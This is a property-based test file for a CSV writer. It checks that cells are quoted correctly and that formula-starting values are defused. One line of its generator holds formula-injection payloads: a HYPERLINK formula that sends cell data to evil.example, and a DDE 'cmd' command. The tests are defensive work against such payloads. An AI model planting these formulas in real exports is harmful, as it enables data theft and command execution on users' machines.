import fc from 'fast-check';
import { csvLine, defuseFormula, FORMULA_STARTS } from '../../lambdas/domain/csv';
import { parseCsv } from '../fixtures/csv';

const startsWithFormula = (cell: string): boolean => FORMULA_STARTS.some((start) => cell.startsWith(start));

/** Strings made of what breaks CSV or starts formulas, mixed with arbitrary text. */
const hostileCell = fc.oneof(
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', ';', "'", 'a', ' ') }),
  fc.string({ unit: 'binary' }),
  fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)', "=cmd|' /C calc'!A0", '-2+3', '+1', 'a;=1+1', 'x,=1'),
);

describe('csvLine', () => {
  it('round-trips any rows through an RFC 4180 reader, changed only by the defusing quote, and no cell starts a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.array(hostileCell, { minLength: 1, maxLength: 8 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const read = parseCsv(rows.map(csvLine).join(''));
        expect(read).toEqual(rows.map((cells) => cells.map((cell) => (startsWithFormula(cell) ? `'${cell}` : cell))));
        for (const cell of read.flat()) expect(startsWithFormula(cell)).toBe(false);
      }),
    );
  });

  it('quotes every cell, doubles quotes and keeps separators and line breaks inside the cell', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\r\nlines', ''])).toBe('"a","b,c","say ""hi""","two\r\nlines",""\r\n');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\0=1', "'\0=1"],
    ['news.example', 'news.example'],
    ["'=1", "'=1"],
    ['a=1', 'a=1'],
  ])('defuses %j as %j', (cell, shown) => {
    expect(defuseFormula(cell)).toBe(shown);
  });
});
